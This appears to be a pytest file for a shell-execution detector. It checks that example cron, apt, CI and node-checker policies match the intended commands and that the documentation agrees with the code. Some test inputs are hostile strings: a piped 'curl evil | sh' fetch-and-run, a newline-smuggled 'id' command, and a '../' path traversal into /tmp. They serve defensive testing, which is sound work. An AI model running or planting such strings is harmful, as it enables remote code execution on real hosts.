"""What the documents and the examples show is what the service takes."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from detector.policy import FIELDS, Action, Policy
from otel_shell_detector.cli import main
from otel_shell_detector.policies.file import load
from tests.otel_shell_detector.policies.policies import NOW_NS

ROOT = Path(__file__).parents[3]
EXAMPLES = ROOT / "deploy" / "policies"
DOCUMENT = (ROOT / "docs" / "policies.md").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def examples() -> Policy:
    return load(EXAMPLES, NOW_NS, {}).policy


def test_the_examples_only_annotate_and_can_be_made_to_suppress(examples: Policy) -> None:
    assert {rule.action for rule in examples.rules} == {Action.ANNOTATE}
    assert all(rule.is_anchored for rule in examples.rules)
    assert sorted(path.name for path in EXAMPLES.iterdir()) == [
        "apt.yaml",
        "cron.yaml",
        "gitlab-runner.yaml",
        "node-problem-detector.yaml",
    ]


CRON = {"systemd.unit": "cron.service", "shell.mode": "command"}
APT = {"systemd.unit": "apt-daily-upgrade.service", "shell.mode": "script"}
CI = {"k8s.namespace.name": "gitlab-runner", "k8s.pod.name": "runner-x7f-project-1-concurrent-0"}
CHECKS = {"k8s.daemonset.name": "node-problem-detector", "shell.mode": "script"}
CHECKER = {"systemd.unit": "node-problem-detector.service", "shell.mode": "script"}


@pytest.mark.parametrize(
    ("fields", "rule"),
    [
        (CRON | {"shell.runs": "cd / && run-parts --report /etc/cron.hourly"}, "cron-run-parts"),
        (
            CRON
            | {"shell.runs": "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"},
            "cron-run-parts",
        ),
        (
            {
                "systemd.unit": "crond.service",
                "shell.mode": "command",
                "shell.runs": "run-parts /etc/cron.hourly",
            },
            "cron-run-parts",
        ),
        (CRON | {"shell.runs": "cd / && run-parts --report /etc/cron.hourly; curl evil | sh"}, "cron-other"),
        (CRON | {"shell.runs": "cd / && run-parts --report /etc/cron.hourly\nid"}, "cron-other"),
        (CRON | {"systemd.unit": "xcron.service"}, None),
        (APT | {"shell.runs": "/var/lib/dpkg/info/libc6:amd64.postinst"}, "apt-maintainer-script"),
        (APT | {"shell.runs": "/var/lib/dpkg/tmp.ci/preinst"}, "apt-maintainer-script"),
        (APT | {"shell.runs": "/tmp/x.postinst"}, "apt-other"),
        (APT | {"shell.runs": "/var/lib/dpkg/info/../../../../tmp/x.postinst"}, "apt-other"),
        (CI | {"k8s.container.name": "build"}, "gitlab-runner-kubernetes"),
        (CI | {"k8s.container.name": "svc-0"}, None),
        ({"systemd.unit": "gitlab-runner.service"}, "gitlab-runner-shell"),
        (CHECKS | {"shell.runs": "./config/plugin/check_ntp.sh"}, "node-problem-detector-pod"),
        (CHECKS | {"shell.runs": "/config/plugin/network_problem.sh"}, "node-problem-detector-pod"),
        (CHECKS | {"shell.runs": "/tmp/config/plugin/check_ntp.sh"}, None),
        (
            CHECKER | {"process.parent.executable.name": "node-problem-detector"},
            "node-problem-detector-service",
        ),
        (CHECKER | {"process.parent.executable.name": "node-problem-de"}, "node-problem-detector-service"),
        (CHECKER | {"process.parent.executable.name": "bash"}, None),
    ],
)
def test_an_example_speaks_of_what_it_says(
    examples: Policy, fields: dict[str, str], rule: str | None
) -> None:
    decides = examples.judge(fields, NOW_NS)
    assert (decides.id if decides else None) == rule


def test_the_document_shows_a_policy_that_is_taken(tmp_path: Path) -> None:
    [shown] = re.findall(r"```yaml\n(.*?)```", DOCUMENT, re.DOTALL)
    path = tmp_path / "policies.yaml"
    path.write_text(shown)
    ids = [rule.id for rule in load(path, NOW_NS, {}).policy.rules]
    assert ids == ["cron-run-parts", "nightly-report", "ci-jobs"]


def test_the_document_shows_what_check_config_says(
    tmp_path: Path,
    no_variables: None,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    [shown] = re.findall(r"```console\n\$ [^\n]*\n(.*?)```", DOCUMENT, re.DOTALL)
    monkeypatch.chdir(tmp_path)
    Path("policies.yaml").write_text(
        "rules:\n  - id: a\n    reason: TODO\n    owner: ops\n    action: annotate\n"
        "    matchers: [systemd.units=x]\n"
    )
    monkeypatch.setenv("OTEL_SHELL_DETECTOR_POLICY__PATH", "policies.yaml")
    assert (main(["check-config"]), capsys.readouterr().err) == (2, shown)


def test_the_document_lists_the_fields() -> None:
    [listed] = re.findall(r"<!-- fields -->(.*?)<!-- /fields -->", DOCUMENT, re.DOTALL)
    assert tuple(re.findall(r"`([^`]+)`", listed)) == FIELDS
